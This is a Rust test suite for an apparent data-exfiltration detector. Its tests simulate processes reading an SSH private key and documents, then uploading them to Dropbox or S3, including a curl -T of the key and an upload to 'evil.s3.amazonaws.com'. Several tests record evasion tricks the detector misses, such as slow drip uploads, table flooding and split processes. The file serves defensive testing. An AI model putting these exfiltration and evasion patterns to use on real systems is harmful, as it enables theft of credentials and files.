//! Those who know how the engine works. Each line of the table in the parent's documentation is a test here.

use std::sync::Arc;

use cloudward::engine::Engine;
use cloudward::engine::lineage::MAX_LIVES;
use cloudward::engine::state::{open, seal};
use cloudward::engine::taint::MAX_FILES;
use cloudward::model::{CoverageKind, Evidence, OpenFlags, Record, Span};
use cloudward::policy::Policy;

use super::chance::Chance;
use super::mac::{Actor, Mac, Proc, START};
use super::plays::DROPBOX;
use super::run::{POLICIES, compiled, within_limits};

const KEY: &str = ".ssh/id_rsa";
const DOC: &str = "Documents/plan.pdf";

pub struct Told(Vec<Record>);

impl Told {
    fn ids(&self) -> Vec<[u8; 16]> {
        let mut ids: Vec<_> = self
            .0
            .iter()
            .filter_map(|record| match record {
                Record::Alert(alert) => Some(alert.id.0),
                Record::Coverage(_) | Record::Heartbeat(_) => None,
            })
            .collect();
        ids.sort_unstable();
        ids.dedup();
        ids
    }

    #[track_caller]
    pub fn caught(&self) -> &cloudward::model::Alert {
        assert_eq!(self.ids().len(), 1, "{:#?}", self.0);
        let alert = self.0.iter().rev().find_map(|record| match record {
            Record::Alert(alert) => Some(alert),
            Record::Coverage(_) | Record::Heartbeat(_) => None,
        });
        alert.unwrap()
    }

    #[track_caller]
    fn through(&self) {
        assert!(self.ids().is_empty(), "caught after all, mend the table: {:#?}", self.0);
    }

    fn says(&self, kind: CoverageKind) -> bool {
        self.0.iter().any(|record| matches!(record, Record::Coverage(said) if said.kind == kind))
    }
}

fn tell_under(policy: &Arc<Policy>, play: impl FnOnce(&mut Actor<'_>)) -> Told {
    let (mut mac, mut chance) = (Mac::new(), Chance::new(1));
    let mut actor = mac.actor(0, START, &mut chance);
    play(&mut actor);
    actor.done();
    tell_to(Engine::new(Arc::clone(policy)), mac)
}

pub fn tell_to(mut engine: Engine, mac: Mac) -> Told {
    let mut records = Vec::new();
    for (_, input) in mac.sorted() {
        engine.step(input, &mut records);
        within_limits(&engine.sizes());
    }
    engine.finish(&mut records);
    Told(records)
}

fn tell(play: impl FnOnce(&mut Actor<'_>)) -> Told {
    tell_under(&POLICIES[0], play)
}

#[test]
fn many_other_reads() {
    let told = tell(|a| {
        let p = a.launch("x");
        let key = a.home(KEY);
        a.open(&p, &key);
        for file in 0..1000 {
            let path = a.home(&format!("Documents/{file}"));
            a.open(&p, &path);
        }
        a.upload(&p, DROPBOX, 9_000);
    });
    let alert = told.caught();
    assert!(alert.reads[0].path.to_string().ends_with(KEY), "{:#?}", alert.reads[0]);
    assert!(alert.reads_omitted >= 1000 - 128, "{}", alert.reads_omitted);
}

#[test]
fn one_file_again_and_again() {
    let rule = "[[rule]]\nid = \"t\"\nname = \"t\"\nseverity = \"high\"\n\
                step = [{ on = \"read\", count = 30 }, { on = \"upload\" }]\n";
    let told = tell_under(&compiled(rule), |a| {
        let p = a.launch("x");
        for file in 0..30 {
            let path = a.home(&format!("Documents/{file}"));
            a.open(&p, &path);
        }
        let again = a.home("Documents/0");
        (0..500).for_each(|_| a.open(&p, &again));
        a.upload(&p, DROPBOX, 9_000);
    });
    assert!(told.caught().rules.iter().any(|rule| &*rule.id == "t"), "{:#?}", told.caught().rules);
}

#[test]
fn process_table_flooded() {
    let told = tell(|a| {
        let (p, flooder) = (a.launch("x"), a.launch("y"));
        let key = a.home(KEY);
        a.open(&p, &key);
        for child in 0..MAX_LIVES as i32 + 2_000 {
            a.fork_as(&flooder, 2_000 + child);
        }
        a.upload(&p, DROPBOX, 9_000);
    });
    told.caught();
    assert!(told.says(CoverageKind::TableFull));
}

#[test]
fn named_pipes_flooded() {
    for (others, processes) in [(20, 0), (40, 0), (0, 80)] {
        let told = tell(|a| {
            let (p, up, flooder) = (a.launch("x"), a.launch("y"), a.launch("z"));
            a.open_fifo(&up, 7, OpenFlags::FREAD);
            a.open_fifo(&p, 7, OpenFlags::FWRITE);
            (0..others).for_each(|other| a.open_fifo(&p, 100 + other, OpenFlags::FWRITE));
            for child in 0..processes {
                let child = a.fork_as(&flooder, 2_000 + child);
                a.open_fifo(&child, 7, OpenFlags::FREAD);
            }
            let key = a.home(KEY);
            a.open(&p, &key);
            a.upload(&up, DROPBOX, 9_000);
        });
        if others == 20 {
            told.caught();
        } else {
            told.through();
        }
        assert_eq!(told.says(CoverageKind::TableFull), others != 20);
    }
}

#[test]
fn file_table_flooded() {
    let told = tell(|a| {
        let (p, up) = (a.launch("x"), a.launch("y"));
        let (key, out) = (a.home(KEY), a.home("out.zip"));
        a.open(&p, &key);
        let staged = a.write(&p, &out);
        for file in 0..MAX_FILES {
            let path = a.home(&format!("junk/{file}"));
            a.write(&p, &path);
        }
        a.open_file(&up, &staged);
        a.upload(&up, DROPBOX, 9_000);
    });
    told.through();
    assert!(told.says(CoverageKind::TableFull));
}

#[test]
fn waiting() {
    let story = |wait: u64, staged: bool| {
        tell(|a| {
            let (p, up) = (a.launch("x"), a.launch("y"));
            let (doc, out) = (a.home(DOC), a.home("out.zip"));
            a.open(&p, &doc);
            let file = a.write(&p, &out);
            a.wait(wait);
            if staged {
                a.open_file(&up, &file);
            }
            a.upload(if staged { &up } else { &p }, DROPBOX, 9_000);
        })
    };
    story(890_000, false).caught();
    story(901_000, false).through();
    story(20 * 3_600_000, true).caught();
}

#[test]
fn dripping() {
    let story = |bytes: u32| {
        tell(|a| {
            let p = a.launch("x");
            let doc = a.home(DOC);
            a.open(&p, &doc);
            for _ in 0..120 {
                a.wait(60_000);
                a.upload(&p, DROPBOX, bytes);
            }
        })
    };
    story(200).through();
    story(400).caught();
}

#[test]
fn split_over_processes() {
    let story = |processes: usize, bytes: u32| {
        tell(|a| {
            let p = a.launch("x");
            let doc = a.home(DOC);
            a.open(&p, &doc);
            for child in 0..processes as i32 {
                let child = a.fork_as(&p, 2_000 + child);
                a.upload(&child, DROPBOX, bytes);
                a.exit(&child);
            }
        })
    };
    story(20, 300).caught();
    story(60, 100).caught();
    // More than are summed: said, at least.
    let many = story(120, 60);
    many.through();
    assert!(many.says(CoverageKind::TableFull));
}

#[test]
fn download_for_cover() {
    let play = |a: &mut Actor<'_>| {
        let p = a.launch("x");
        let doc = a.home(DOC);
        a.open(&p, &doc);
        let flow = a.connect(&p, DROPBOX);
        a.receive(flow, 200_000);
        a.send(flow, 90_000);
        a.close(flow);
    };
    tell(play).through();
    let strict = CORP_WITHOUT_RATIO.replace("min_ratio = 1.0", "min_ratio = 0");
    let (settings, _) = cloudward::config::load(&[cloudward::config::Source::new(
        cloudward::config::Origin::File,
        "policy.toml",
        strict,
    )]);
    tell_under(&settings.policy, play).caught();
}

const CORP_WITHOUT_RATIO: &str = include_str!("../cases/corp.toml");

/// What the fuzzing of kept states begins with must be read by this build. After a change of the format write it anew:
/// `CLOUDWARD_WRITE_SEED=1 cargo test the_fuzzers_state`.
#[test]
fn the_fuzzers_state_is_of_this_version() {
    const SEED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/fuzz/seeds/state/demo");
    if std::env::var_os("CLOUDWARD_WRITE_SEED").is_some() {
        let (mut mac, mut chance) = (Mac::new(), Chance::new(1));
        let mut a = mac.actor(0, START, &mut chance);
        let p = a.launch("x");
        let (key, doc, out, moved) = (a.home(KEY), a.home(DOC), a.home("out.zip"), a.home("out.png"));
        a.open(&p, &key);
        a.open(&p, &doc);
        let flow = a.connect(&p, DROPBOX);
        a.send(flow, 20_000);
        let file = a.write(&p, &out);
        a.open_file(&p, &file);
        let child = a.fork(&p);
        let child = a.exec(&child, "/usr/bin/curl", &["curl", "-T", &out], &[(1, 7)]);
        a.rename(&p, &file, &moved);
        a.upload(&child, "b.s3.amazonaws.com", 90_000);
        a.send(flow, 100);
        a.done();
        let (mut engine, mut records) = (Engine::new(Arc::clone(&POLICIES[0])), Vec::new());
        mac.sorted().into_iter().for_each(|(_, input)| engine.step(input, &mut records));
        std::fs::write(SEED, seal(&engine.save(), "boot")).unwrap();
    }
    let (state, _) = open(&std::fs::read(SEED).unwrap()).expect("write it anew, see above");
    let engine = Engine::resume(Arc::clone(&POLICIES[0]), &state).expect("write it anew, see above");
    let known: usize = engine.sizes().against_limits().map(|(_, size, _)| size).into_iter().sum();
    assert!(known > 10, "{known}");
}

/// An upload is judged by what was known when it crossed the floor, whatever its process does until it ends.
#[test]
fn changed_after_the_upload() {
    let story = |after: fn(&mut Actor<'_>, &Proc)| {
        tell(|a| {
            let p = a.launch("x");
            let key = a.home(KEY);
            a.open(&p, &key);
            let flow = a.connect(&p, DROPBOX);
            a.send(flow, 20_000);
            a.wait(200);
            after(a, &p);
            a.close(flow);
        })
    };
    let told = story(|_, _| {});
    let plain = told.caught();
    let others = [
        story(|a, p| {
            a.exec(p, "/bin/sleep", &["/bin/sleep", "60"], &[]);
        }),
        story(|a, p| {
            let out = a.home("out.zip");
            let file = a.write(p, &out);
            a.open_file(p, &file);
        }),
    ];
    for told in &others {
        let alert = told.caught();
        assert_eq!(
            alert.uploader.process().map(|process| &process.info.program),
            plain.uploader.process().map(|process| &process.info.program)
        );
        assert_eq!((alert.time, alert.id, alert.confidence), (plain.time, plain.id, plain.confidence));
        assert_eq!(alert.reads.len(), plain.reads.len(), "{:#?}", alert.reads);
        assert_eq!(alert.hops, plain.hops);
    }
}

#[test]
fn a_file_that_is_opened_after_the_upload_that_names_it() {
    let told = tell(|a| {
        let key = a.home(KEY);
        let shell = a.launch("x");
        let p =
            a.exec(&shell, "/usr/bin/curl", &["curl", "-T", &key, "https://content.dropboxapi.com/x"], &[]);
        let flow = a.connect(&p, DROPBOX);
        a.send(flow, 20_000);
        a.wait(200);
        a.open(&p, &key);
        a.close(flow);
    });
    let alert = told.caught();
    assert!(
        alert.reads.iter().all(|read| read.time <= alert.time && read.evidence == Evidence::Argv),
        "{alert:#?}"
    );
}

/// Records leave in the order of their time, so an upload that nobody can judge yet holds later ones back.
#[test]
fn uploads_left_undecided() {
    let (mut mac, mut chance) = (Mac::new(), Chance::new(1));
    let mut a = mac.actor(0, START, &mut chance);
    let decoys: Vec<_> = (0..5)
        .map(|decoy| {
            let p = a.launch("decoy");
            let doc = a.home(&format!("Documents/{decoy}"));
            a.open(&p, &doc);
            let flow = a.connect(&p, DROPBOX);
            a.send(flow, 9_000);
            flow
        })
        .collect();
    let p = a.launch("x");
    let key = a.home(KEY);
    a.open(&p, &key);
    a.upload(&p, DROPBOX, 90_000);
    for _ in 0..30 {
        a.wait(1_000);
        decoys.iter().for_each(|flow| a.send(*flow, 10));
    }
    a.done();
    let (mut engine, mut records) = (Engine::new(Arc::clone(&POLICIES[0])), Vec::new());
    let mut waited = None;
    for (_, input) in mac.sorted() {
        engine.step(input, &mut records);
        let of_key = records.iter().find_map(|record| match record {
            Record::Alert(alert) if alert.reads[0].path.to_string().ends_with(KEY) => Some(alert),
            _ => None,
        });
        waited = waited.or_else(|| of_key.map(|alert| engine.now().since(alert.time)));
    }
    let waited = waited.expect("told while the decoys go on");
    assert!((Span::from_secs(10)..Span::from_secs(12)).contains(&waited), "{waited:?}");
}

#[test]
fn many_places() {
    let told = tell(|a| {
        let p = a.launch("x");
        let doc = a.home(DOC);
        a.open(&p, &doc);
        for place in 0..32 {
            a.upload(&p, &format!("b{place}.s3.amazonaws.com"), 100);
        }
        a.upload(&p, DROPBOX, 90_000);
    });
    told.caught();
    assert!(told.says(CoverageKind::TableFull));
}

#[test]
fn names_written_otherwise() {
    for path in
        ["/USERS/u0/.SSH/ID_RSA", "/System/Volumes/Data/Users/u0/.ssh/id_rsa", "/Users/u0/./.ssh//id_rsa"]
    {
        let told = tell(|a| {
            let p = a.launch("x");
            a.open(&p, path);
            a.upload(&p, "CONTENT.DropboxAPI.com.", 9_000);
        });
        told.caught();
    }
}

#[test]
fn through_launchd() {
    let told = tell(|a| {
        let p = a.launch("x");
        let (key, out) = (a.home(KEY), a.home("out.zip"));
        a.open(&p, &key);
        let file = a.write(&p, &out);
        a.exit(&p);
        let up = a.launch("y");
        a.open_file(&up, &file);
        a.upload(&up, DROPBOX, 9_000);
    });
    told.caught();
}

#[test]
fn behind_an_allowed_program() {
    let story = |bucket: &str| {
        tell(|a| {
            let p = a.launch("x");
            let doc = a.home(DOC);
            a.open(&p, &doc);
            let p = a.exec(&p, "/opt/homebrew/bin/rclone", &["rclone"], &[]);
            a.upload(&p, bucket, 9_000);
        })
    };
    story("evil.s3.amazonaws.com").caught();
    story("corp-backup.s3.amazonaws.com").through();
}
